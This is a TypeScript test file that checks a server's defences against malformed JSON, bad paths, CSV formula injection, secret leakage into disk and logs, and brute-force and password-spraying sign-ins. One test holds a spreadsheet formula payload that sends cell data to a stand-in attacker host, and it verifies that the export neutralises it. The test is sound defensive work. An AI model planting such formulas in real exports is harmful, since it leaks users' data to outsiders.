import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ADMIN, Client, signedInAdmin, signedInUser, startTestNode, type TestNode } from '@parley/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/** What an outsider or a signed-in user of the lowest role tries against a node, over loopback HTTP. */
describe('a node under attack', () => {
  let node: TestNode;
  let admin: Client;

  beforeAll(async () => {
    node = await startTestNode();
    admin = await signedInAdmin(node);
  });
  afterAll(async () => {
    await node?.close();
  });

  describe('malformed input', () => {
    it('refuses JSON nested too deeply with 400, even on routes open to anyone, instead of failing inside', async () => {
      const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
      const outsider = new Client(node.url);
      for (const [path, raw] of [
        ['/api/v1/auth/login', deep(100_000)],
        ['/api/v1/verify', `{"bundle":${deep(100_000)}}`],
        ['/api/v1/auth/login', `{"email":${deep(65)}}`],
      ] as const) {
        const r = await outsider.request('POST', path, undefined, { raw, headers: { 'content-type': 'application/json' } });
        expect([r.status, r.body.code], path).toEqual([400, 'too_deeply_nested']);
        expect(r.body.detail).toBe('The request body nests arrays and objects more than 64 levels deep; no request of this API needs that many.');
      }
      expect(node.logs.some((l) => l.level === 50)).toBe(false);
    });

    it('counts nesting outside strings only, so brackets in a text are not refused', async () => {
      const r = await admin.post('/api/v1/indicators/parse', { text: `"\\[${'['.repeat(200)}` });
      expect(r.status).toBe(200);
    });
  });

  describe('malformed paths', () => {
    it('answers a proof request whose hash is broken percent-encoding with 400, and finds a hash encoded as the web page sends it', async () => {
      for (const path of ['/api/v1/proofs/messages/%E0%A4%A', `/api/v1/proofs/messages/sha256%253A${'B'.repeat(43)}`]) {
        const r = await admin.get(path);
        expect([r.status, r.body.code], path).toEqual([400, 'invalid_hash']);
      }
      const encoded = await admin.get(`/api/v1/proofs/messages/${encodeURIComponent(`sha256:${'B'.repeat(43)}`)}`);
      expect([encoded.status, encoded.body.code]).toEqual([404, 'message_not_found']);
    });
  });

  describe('files for spreadsheets', () => {
    it('writes a statement that a spreadsheet would run as a formula as text in the CSV export, and reads it back unchanged', async () => {
      const statement = '=HYPERLINK("https://attacker.example/?"&A1,"Read the full statement")';
      const set = await admin.post('/api/v1/norms/positions', { entry: 'gge2015-13a', position: 'endorses', statement, source: '@A/C.1/80/PV.3', date: '2026-01-05' });
      expect(set.status).toBe(200);
      const csv = String((await admin.get('/api/v1/norms/export.csv')).body);
      const line = csv.split('\n').find((l) => l.includes('gge2015-13a'));
      expect(line).toBe(`XAA,gge2015-13a,endorses,"'=HYPERLINK(""https://attacker.example/?""&A1,""Read the full statement"")",'@A/C.1/80/PV.3,2026-01-05,own`);
      const back = await admin.post('/api/v1/norms/import/preview', { csv });
      expect(back.body.preview.find((r: { entry: string }) => r.entry === 'gge2015-13a')).toMatchObject({ statement, source: '@A/C.1/80/PV.3' });
    });
  });

  describe('secrets', () => {
    it('keeps only the SHA-256 of API tokens, setup links and session ids on disk, and none of them, nor a password or a CSRF token, in the log', async () => {
      const token = (await admin.post('/api/v1/tokens', { name: 'script' })).body.secret as string;
      const invited = await admin.post('/api/v1/users', { email: 'new.officer@mfa.example', displayName: 'New Officer', role: 'officer' });
      const link = new URL(invited.body.setupLink as string).hash.slice(1);
      const officer = new Client(node.url);
      const signIn = await officer.request('POST', '/api/v1/auth/setup', { token: link, password: 'officer password long enough' });
      expect(signIn.status).toBe(200);
      const session = /^parley_session=([^;]+)/.exec(signIn.headers.get('set-cookie') ?? '')![1]!;
      // Wait for the writes to reach the files of the embedded database.
      await node.stop();
      const onDisk = await everyFileUnder(node.dataDir);
      await node.restart();
      for (const secret of [token, link, session]) {
        expect(onDisk.includes(Buffer.from(secret)), 'the secret itself').toBe(false);
        expect(onDisk.includes(Buffer.from(createHash('sha256').update(secret).digest('hex'))), 'its SHA-256').toBe(true);
      }
      const log = node.logText();
      for (const secret of [token, link, session, signIn.body.csrfToken as string, admin.csrfToken!, ADMIN.password, 'officer password long enough']) {
        expect(log).not.toContain(secret);
      }
      expect(log).not.toContain('PRIVATE KEY');
    });
  });

  describe('secrets in the most verbose log', () => {
    it('logs, at level trace, neither the password of a sign-in (right or wrong), nor an API token sent as a bearer token, nor the session cookie', async () => {
      const verbose = await startTestNode({ config: { logLevel: 'trace' } });
      try {
        const first = await signedInAdmin(verbose);
        const token = (await first.post('/api/v1/tokens', { name: 'verbose' })).body.secret as string;
        const wrong = 'a wrong password tried once';
        expect((await new Client(verbose.url).login(ADMIN.email, wrong)).status).toBe(401);
        const signIn = await new Client(verbose.url).request('POST', '/api/v1/auth/login', { email: ADMIN.email, password: ADMIN.password });
        expect(signIn.status).toBe(200);
        const session = /^parley_session=([^;]+)/.exec(signIn.headers.get('set-cookie') ?? '')![1]!;
        const bot = new Client(verbose.url).withToken(token);
        expect((await bot.get('/api/v1/contacts')).status).toBe(200);
        expect((await bot.post('/api/v1/contacts', { kind: 'technical', name: 'Desk', organisation: 'CERT', email: 'desk@cert.example', phone: '+41 58 000 00 00', languages: ['en'], timeZone: 'UTC', available24x7: false })).status).toBe(201);
        const text = verbose.logText();
        expect(verbose.logs.some((l) => l.msg === 'request' && l.path === '/api/v1/contacts')).toBe(true);
        for (const secret of [ADMIN.password, wrong, token, session, signIn.body.csrfToken as string]) expect(text).not.toContain(secret);
      } finally {
        await verbose.close();
      }
    });
  });

  describe('sign-in limits', () => {
    let limited: TestNode;
    let limitedAdmin: Client;
    beforeAll(async () => {
      limited = await startTestNode({ config: { loginAttempts: 3 } });
      limitedAdmin = await signedInAdmin(limited);
    });
    afterAll(async () => {
      await limited?.close();
    });

    it('does not count successful sign-ins or uses of setup links against the address', async () => {
      for (let i = 0; i < 5; i++) expect((await new Client(limited.url).login(ADMIN.email, ADMIN.password)).status).toBe(200);
      for (let i = 0; i < 4; i++) await signedInUser(limitedAdmin, 'viewer', `Viewer ${i}`);
    });

    it('counts sign-in attempts sent all at once, so guessing in parallel gets no more tries than one by one', async () => {
      const email = 'parallel@mfa.example';
      const replies = await Promise.all(Array.from({ length: 12 }, (_, i) => new Client(limited.url).login(email, `wrong password ${i}`)));
      const statuses = replies.map((r) => r.status);
      expect(statuses.filter((s) => s === 401)).toHaveLength(3);
      expect(statuses.filter((s) => s === 429)).toHaveLength(9);
    });

    it("lets a colleague behind the same address sign in after one person's account is locked, and still bounds guessing across accounts from one address", async () => {
      // Each account may fail 3 times, and an address 5 × 3 = 15 times (ADDRESS_SHARERS). A node of
      // its own: the other tests' failures from this address count too.
      const office = await startTestNode({ config: { loginAttempts: 3 } });
      try {
        await signedInUser(await signedInAdmin(office), 'officer', 'Same Office');
        const c = new Client(office.url);
        for (let i = 0; i < 3; i++) expect((await c.login('mistyped@mfa.example', `wrong password ${i}`)).status).toBe(401);
        expect((await c.login('mistyped@mfa.example', 'wrong password')).status).toBe(429);
        expect((await c.login('same.office@mfa.example', 'a long test password')).status).toBe(200);
        // Spraying other accounts from the same address: 15 failures in all, then no more tries (a
        // refused try and the colleague's sign-in cost nothing).
        const spray = [];
        for (let i = 0; i < 14; i++) spray.push((await c.login(`sprayed${i}@mfa.example`, 'a common password')).status);
        expect(spray.filter((s) => s === 401)).toHaveLength(12);
        expect(spray.slice(12)).toEqual([429, 429]);
        expect((await c.login('same.office@mfa.example', 'a long test password')).status).toBe(429);
      } finally {
        await office.close();
      }
    }, 120_000);

    it('limits tries with setup links that do not work, per address, and says when to retry', async () => {
      const c = new Client(limited.url);
      const made = (i: number) => `made-up-setup-link-secret-${i}-xxxxxxxxxxxxxxxx`;
      expect((await c.post('/api/v1/auth/setup/inspect', { token: made(0) })).body.code).toBe('setup_link_invalid');
      expect((await c.post('/api/v1/auth/setup', { token: made(1), password: 'a long test password' })).body.code).toBe('setup_link_invalid');
      expect((await c.post('/api/v1/auth/setup', { token: made(2), password: 'a long test password' })).body.code).toBe('setup_link_invalid');
      for (const blocked of [
        await c.post('/api/v1/auth/setup/inspect', { token: made(3) }),
        await c.post('/api/v1/auth/setup', { token: made(4), password: 'a long test password' }),
      ]) {
        expect([blocked.status, blocked.body.code]).toEqual([429, 'too_many_attempts']);
        expect(blocked.body.detail).toMatch(/^Too many attempts with setup links\. Try again in \d+ minutes?\.$/);
        expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0);
      }
    });
  });
});

describe('a node behind a reverse proxy', () => {
  const guess = (node: TestNode, from: string, i: number) =>
    new Client(node.url).request('POST', '/api/v1/auth/login', { email: `nobody${i}@mfa.example`, password: 'not the password' }, { headers: { 'x-forwarded-for': from } });

  it('with PARLEY_TRUSTED_PROXIES, counts sign-in attempts per address the proxy names, so one guesser does not lock everybody out', async () => {
    const node = await startTestNode({ config: { loginAttempts: 3, loginAttemptsPerAddress: 3, trustedProxies: ['loopback'] } });
    try {
      for (let i = 0; i < 3; i++) expect((await guess(node, '203.0.113.7', i)).status).toBe(401);
      expect((await guess(node, '203.0.113.7', 3)).status).toBe(429);
      // Somebody else behind the same proxy still signs in.
      expect((await guess(node, '198.51.100.20', 4)).status).toBe(401);
      expect((await new Client(node.url).request('POST', '/api/v1/auth/login', { email: ADMIN.email, password: ADMIN.password }, { headers: { 'x-forwarded-for': '198.51.100.20' } })).status).not.toBe(429);
    } finally {
      await node.close();
    }
  });

  it('without it, ignores X-Forwarded-For, which anybody can write: a new address in it buys no new tries', async () => {
    const node = await startTestNode({ config: { loginAttempts: 3, loginAttemptsPerAddress: 3 } });
    try {
      for (let i = 0; i < 3; i++) expect((await guess(node, `203.0.113.${i}`, i)).status).toBe(401);
      expect((await guess(node, '203.0.113.99', 3)).status).toBe(429);
    } finally {
      await node.close();
    }
  });
});

/** The bytes of every file under `dir`, one after another. */
async function everyFileUnder(dir: string): Promise<Buffer> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  const files = entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
  return Buffer.concat(await Promise.all(files.map((f) => readFile(f).catch(() => Buffer.alloc(0)))));
}
